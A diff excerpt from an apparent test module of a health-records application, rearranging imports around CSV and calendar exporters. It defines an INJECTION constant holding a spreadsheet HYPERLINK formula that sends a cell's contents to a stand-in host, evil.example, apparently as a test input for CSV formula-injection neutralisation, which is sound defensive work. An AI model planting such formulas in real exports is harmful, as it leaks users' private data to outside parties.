@@ -30,13 +30,13 @@ from myhealthhub.documents import storage
 from myhealthhub.documents.models import SealedFile
 from myhealthhub.documents.usage import stored_bytes
 from myhealthhub.interop import exporting
-from myhealthhub.interop.exporters import ExportOptions
 from myhealthhub.interop.exporters.csv import CsvExport, neutralised
 from myhealthhub.interop.exporters.ics import CalendarExport
 from myhealthhub.interop.models import ExportJob, ExportState
 from myhealthhub.profiles.models import Profile, Role
 from myhealthhub.records.actions import create_entry
 from myhealthhub.records.kinds import KINDS
+from myhealthhub.summary.options import ExportOptions
 
 INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 
